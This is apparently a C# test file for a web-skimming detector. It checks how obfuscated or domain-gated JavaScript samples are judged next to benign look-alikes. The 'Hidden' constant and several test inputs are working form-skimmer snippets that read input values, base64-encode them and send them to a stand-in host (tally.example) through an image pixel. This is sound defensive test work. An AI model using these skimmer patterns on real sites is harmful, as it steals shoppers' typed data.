using PageShield.Detection;
using PageShield.Detection.Detonation;
using PageShield.Detection.Layers;
using PageShield.Inventory;

namespace PageShield.Tests.Detection;

/// <summary>What reading cannot tell leaves no script clean, until a run has told it.</summary>
public sealed class OpenQuestionTests
{
    private const string Hidden = """
        var s = JSON.parse("[\"querySelectorAll\",\"input\",\"forEach\",\"value\",\"src\",\"https://tally.example/px.gif?d=\",\"addEventListener\",\"change\"]");
        (function () { GATE function take() { var all = ''; document[s[0]](s[1])[s[2]](function (f) { all += f[s[3]] + '|' }); new Image()[s[4]] = s[5] + btoa(all) } document[s[6]](s[7], take, true) })();
        """;

    private static readonly ScriptJudge Rules = new([new StaticLayer()]);

    [Theory]
    [InlineData("")]
    [InlineData("if (location.host.indexOf('tea-shop.example') < 0) return;")]
    public void Words_that_cannot_be_read_on_the_page_are_not_clean(string gate)
    {
        var judgement = Rules.Judge(new ScriptInput { Source = Hidden.Replace("GATE", gate, StringComparison.Ordinal) });

        Assert.NotEqual(VerdictKind.Clean, judgement.Verdict);
    }

    [Theory]
    [InlineData("function T(s) { return ['querySelectorAll', 'input', 'forEach', 'value', 'src', 'https://tally.example/px.gif?d='][s[0]] } document[T`0`](T`1`)[T`2`](function (f) { new Image()[T`4`] = T`5` + btoa(f[T`3`]) });")]
    [InlineData("var m = new Map([[0, 'querySelectorAll'], [1, 'input']]); document[m.get(0)](m.get(1)).length;")]
    [InlineData("var w = ['document', 'querySelectorAll', 'forEach', 'value', 'src'].reverse().map(function (x) { return x }); window[w.pop()][w.pop()]('input');")]
    public void Words_out_of_tables_are_not_clean_either(string source) =>
        Assert.NotEqual(VerdictKind.Clean, Rules.Judge(new ScriptInput { Source = source }).Verdict);

    [Theory]
    [InlineData("document.querySelector('input').addEventListener('change', function (e) { navigator.sendBeacon('https://in.form-numbers.example/v2', JSON.stringify({ len: e.target.value.length, filled: !!e.target.value })) })")]
    [InlineData("document.querySelector('input[type=password]').addEventListener('change', async function (e) { const d = new Uint8Array(await crypto.subtle.digest('SHA-1', new TextEncoder().encode(e.target.value))); const h = [...d].map(b => b.toString(16).padStart(2, '0')).join(''); const r = await fetch('https://breaches.example/range/' + h.slice(0, 5)); })")]
    public void Lengths_and_the_first_digits_of_a_digest_are_not_what_was_typed(string source) =>
        Assert.Equal(VerdictKind.Clean, Rules.Judge(new ScriptInput { Source = source }).Verdict);

    [Theory]
    [InlineData("if (location.host.indexOf('tea-shop.example') < 0) return;")]
    [InlineData("if (!/tea-shop\\.example$/.test(location.hostname)) { return }")]
    [InlineData("if (document.domain != 'tea-shop.example') return;")]
    [InlineData("if (btoa(location.hostname) !== 'dGVhLXNob3AuZXhhbXBsZQ==') return;")]
    public void Code_that_runs_only_at_an_address_is_not_clean(string gate)
    {
        var source = $"(function () {{ {gate} {Filler} }})();";

        var judgement = Rules.Judge(new ScriptInput { Source = source });

        Assert.Equal(VerdictKind.Unknown, judgement.Verdict);
        Assert.Contains(judgement.Findings, finding => finding.Rule == "runs-under-condition");
        Assert.Equal(VerdictKind.Clean, Rules.Judge(new ScriptInput { Source = $"(function () {{ {Filler} }})();" }).Verdict);
    }

    [Theory]
    [InlineData("if (location.hostname === 'localhost') { console.log('development'); }")]
    [InlineData("var secure = location.protocol === 'https:' ? 'secure' : '';")]
    public void A_small_part_under_a_condition_leaves_the_rest_clean(string condition) =>
        Assert.Equal(VerdictKind.Clean,
            Rules.Judge(
            new ScriptInput { Source = $"(function () {{ {Filler} {condition} {Filler.Replace("total", "sum", StringComparison.Ordinal)} }})();" })
            .Verdict);

    [Theory]
    [InlineData("function trigger(node, type) { node.normal = 1; if (node[type]) { document[type](); } } window.trigger = trigger;")]
    [InlineData("var names = { exit: document.webkitExitFullscreen ? 'webkitExitFullscreen' : 'exitFullscreen' }; function leave() { document[names.exit](); } window.leave = leave;")]
    public void What_libraries_call_by_an_events_name_leaves_them_clean(string source) =>
        Assert.Equal(VerdictKind.Clean, Rules.Judge(new ScriptInput { Source = source }).Verdict);

    [Fact]
    public void What_can_be_read_is_judged_by_what_it_says_under_any_condition() => Assert.Equal(VerdictKind.Clean, Rules.Judge(new ScriptInput
    {
        Source = "if (location.href.indexOf('checkout') > -1) { var s = document.createElement('script'); s.src = 'https://www.googletagmanager.com/gtag/js?id=G-1234567'; s.async = true; document.head.appendChild(s); }",
    }).Verdict);

    [Fact]
    public void A_run_that_got_into_the_guarded_code_answers_the_question_and_one_that_did_not_leaves_it()
    {
        var script = new ScriptInput { Source = $"(function () {{ if (location.host !== 'tea-shop.example') return; {Filler} }})();" };
        var opinions = Rules.Examine(script);
        var guarded = script.Source.IndexOf("return;", StringComparison.Ordinal) + "return;".Length;
        var report = new DetonationReport { Version = "test", Shops = ["a shop"], Unrun = [] };

        var answered = ScriptJudge.With(DetonationEvidence.After(opinions, report, script), script);
        var left = ScriptJudge.With(
            DetonationEvidence.After(opinions, report with { Unrun = [new TextRange(guarded, script.Source.Length)] }, script), script);
        var hung = ScriptJudge.With(DetonationEvidence.After(opinions, report with { Incomplete = "It hung." }, script), script);

        Assert.Equal((VerdictKind.Clean, VerdictKind.Unknown, VerdictKind.Unknown), (answered.Verdict, left.Verdict, hung.Verdict));
    }

    private const string Filler = "var total = 0; for (var i = 0; i < 40; i++) { total += i * 3; } var names = ['count', 'label']; names.forEach(function (n, i) { window.cart[names[i]] = null; }); window.cart = { count: total, label: 'Your basket holds ' + total + ' things', update: function (n) { total = n; return total; } };";
}
